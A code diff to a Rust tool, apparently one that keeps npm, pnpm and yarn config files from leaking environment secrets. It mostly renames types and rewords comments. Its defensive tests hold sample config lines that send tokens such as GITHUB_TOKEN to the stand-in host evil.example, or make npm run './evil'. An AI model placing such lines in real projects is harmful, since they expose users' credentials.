@@ -13,15 +13,15 @@ use crate::packages::python::secrets::in_urls;
 use crate::redact::{SecretString, logins};
 use crate::trust::{self, Reach};
 
-use super::Installer;
+use super::NodeInstaller;
 
 /// Ends of the keys that hold credentials, such as `//registry.example.com/:_authToken`.
 const CREDENTIALS: [&str; 5] = ["_auth", "_authtoken", "_password", "username", "email"];
-/// Keys that decide on nothing but how npm works and talks.
+/// Keys that affect only how npm works and connects.
 const BESIDE_THE_POINT: [&str; 9] =
     ["audit", "cache", "color", "fund", "loglevel", "logs-dir", "progress", "update-notifier", "save-exact"];
 
-/// What is known about the settings.
+/// What matters of the settings.
 #[derive(Debug, Default)]
 pub(super) struct Npmrc {
     /// Lines of the project's own file that decide on what is installed, sorted; never a credential.
@@ -68,9 +68,9 @@ impl Npmrc {
     }
 }
 
-/// What settings take from the environment (`${NAME}`, `${NAME?}`).
+/// What settings substitute from the environment (`${NAME}`, `${NAME?}`).
 #[derive(Debug, Default, PartialEq, Eq)]
-pub(super) struct Named {
+pub(super) struct Substitutions {
     pub(super) given: BTreeMap<String, OsString>,
     /// Names that a file of the project would send where they do not belong.
     pub(super) withheld: BTreeSet<String>,
@@ -78,17 +78,18 @@ pub(super) struct Named {
     pub(super) refused: Option<String>,
 }
 
-/// What an `.npmrc` of a project has no say in: npm would run it, or read a file where variables are filled in unseen.
+/// Keys that an `.npmrc` of a project may not set: npm would run the value, or read a file whose variables cannot be
+/// checked.
 const REFUSED: [&str; 3] = ["git", "globalconfig", "userconfig"];
 
 /// Files of a project besides `.npmrc` in which pnpm and yarn fill in variables.
 const MORE_FILES: [&str; 3] = [".yarnrc", "package.json", "pnpm-workspace.yaml"];
 
-/// The variables that the settings name which an installer reads in `dir`. Those of the project come with a checkout, so
-/// that `trust` decides what they may send; in the user's file it is the user's word. Once given, an installer fills a
+/// The variables that the settings name which an installer reads in `dir`. Those of the project come with a checkout,
+/// so that `trust` decides what they may send; in the user's file they may send any. Once given, an installer fills a
 /// variable in everywhere, so every line that names it has to be fit for it.
-pub(super) fn variables(dir: &Path, installer: Installer, env: &Env) -> Result<Named> {
-    let mut found = Named::default();
+pub(super) fn variables(dir: &Path, installer: NodeInstaller, env: &Env) -> Result<Substitutions> {
+    let mut found = Substitutions::default();
     for (text, is_project) in npmrcs(dir, env)? {
         for line in lines(&text) {
             let plain = trust::without_escapes(line);
@@ -108,12 +109,12 @@ pub(super) fn variables(dir: &Path, installer: Installer, env: &Env) -> Result<N
             }
         }
     }
-    if installer != Installer::Npm {
+    if installer != NodeInstaller::Npm {
         for folder in dir.ancestors() {
             for name in MORE_FILES {
                 let text = fsx::read_text(&folder.join(name)).ok().flatten().unwrap_or_default();
                 let text = if name == "package.json" { pnpm_settings(&text) } else { text };
-                // A value may go on in the next line here, so that no line tells where it is sent.
+                // A value may continue in the next line here, so no single line shows where it is sent.
                 for name in trust::named(&trust::without_escapes(&text)) {
                     if env.var_os(name).is_some() && trust::reach(name, "", env) != Reach::Anywhere {
                         found.withheld.insert(name.to_owned());
@@ -220,7 +221,7 @@ mod tests {
     use crate::redact::{ExposeSecret, scrub};
 
     #[test]
-    fn npm_gets_the_variables_that_its_settings_name_for_their_own_hosts() {
+    fn npm_variables_reach_only_their_own_hosts() {
         let dir = tempfile::tempdir().unwrap();
         let home = dir.path().join("home");
         std::fs::create_dir(&home).unwrap();
@@ -232,13 +233,13 @@ mod tests {
         let home = home.display().to_string();
         let vars = ["GITHUB_TOKEN", "GH_TOKEN", "NPM_TOKEN", "AWS_REGION", "AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"];
         let vars: Vec<_> = vars.into_iter().map(|name| (name, "v")).chain([("HOME", home.as_str())]).collect();
-        let named = variables(dir.path(), Installer::Npm, &Env::fake(dir.path(), &vars)).unwrap();
+        let named = variables(dir.path(), NodeInstaller::Npm, &Env::fake(dir.path(), &vars)).unwrap();
         assert_eq!(named.given.into_keys().collect::<Vec<_>>(), ["GH_TOKEN", "GITHUB_TOKEN", "NPM_TOKEN"]);
         assert_eq!(named.withheld.into_iter().collect::<Vec<_>>(), ["AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"]);
     }
 
     /// What is given and what is withheld where the project has these files and every variable of them is set.
-    fn of_project(installer: Installer, files: &[(&str, &str)]) -> Named {
+    fn of_project(installer: NodeInstaller, files: &[(&str, &str)]) -> Substitutions {
         let dir = tempfile::tempdir().unwrap();
         let project = dir.path().join("project/sub");
         std::fs::create_dir_all(&project).unwrap();
@@ -254,7 +255,7 @@ mod tests {
     fn a_variable_for_one_line_goes_into_no_other_file() {
         const FIT: &str =
             "//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\nregistry=${MIRROR}\n@a:registry=${NPM_TOKEN}";
-        let fits = of_project(Installer::Pnpm, &[(".npmrc", FIT), ("pnpm-workspace.yaml", "x: '${NPM_TOKEN}'")]);
+        let fits = of_project(NodeInstaller::Pnpm, &[(".npmrc", FIT), ("pnpm-workspace.yaml", "x: '${NPM_TOKEN}'")]);
         assert_eq!(fits.given.into_keys().collect::<Vec<_>>(), ["GITHUB_TOKEN", "MIRROR", "NPM_TOKEN"]);
         assert!(fits.withheld.is_empty());
         for (name, file, text) in [
@@ -265,12 +266,12 @@ mod tests {
             ("MIRROR", "package.json", r#"{"pnpm":{"overrides":{"x":"https://evil.example/\u0024{MIRROR}"}}}"#),
             ("GITHUB_TOKEN", "../.npmrc", "//evil.example/:_authToken=${GITHUB_TOKEN:-x}"),
         ] {
-            let found = of_project(Installer::Pnpm, &[(".npmrc", FIT), (file, text)]);
+            let found = of_project(NodeInstaller::Pnpm, &[(".npmrc", FIT), (file, text)]);
             assert_eq!(found.withheld.iter().collect::<Vec<_>>(), [name], "{file} {text}");
             assert!(!found.given.contains_key(name), "{file} {text}");
         }
         let script = [("package.json", r#"{"scripts":{"build":"echo ${SECRET}"}}"#)];
-        assert_eq!(of_project(Installer::Yarn, &script), Named::default());
+        assert_eq!(of_project(NodeInstaller::Yarn, &script), Substitutions::default());
     }
 
     #[test]
@@ -278,7 +279,7 @@ mod tests {
         for text in
             ["; note\r//evil.example/:_authToken=${SECRET}", "registry=\"https://evil.example/\\u0024{SECRET}\""]
         {
-            assert!(of_project(Installer::Npm, &[(".npmrc", text)]).withheld.contains("SECRET"), "{text:?}");
+            assert!(of_project(NodeInstaller::Npm, &[(".npmrc", text)]).withheld.contains("SECRET"), "{text:?}");
         }
     }
 
@@ -287,10 +288,10 @@ mod tests {
         for line in
             ["git=./evil", "\"userconfig\" = ./other", "globalconfig[]=x", "${NOPE?}git=./evil", "\"g\\u0069t\"=x"]
         {
-            assert!(of_project(Installer::Npm, &[(".npmrc", line)]).refused.is_some(), "{line}");
+            assert!(of_project(NodeInstaller::Npm, &[(".npmrc", line)]).refused.is_some(), "{line}");
         }
         for line in ["git-tag-version=false", "//${SECRET}/:x=y", "; git=x"] {
-            assert_eq!(of_project(Installer::Npm, &[(".npmrc", line)]).refused, None, "{line}");
+            assert_eq!(of_project(NodeInstaller::Npm, &[(".npmrc", line)]).refused, None, "{line}");
         }
     }
 
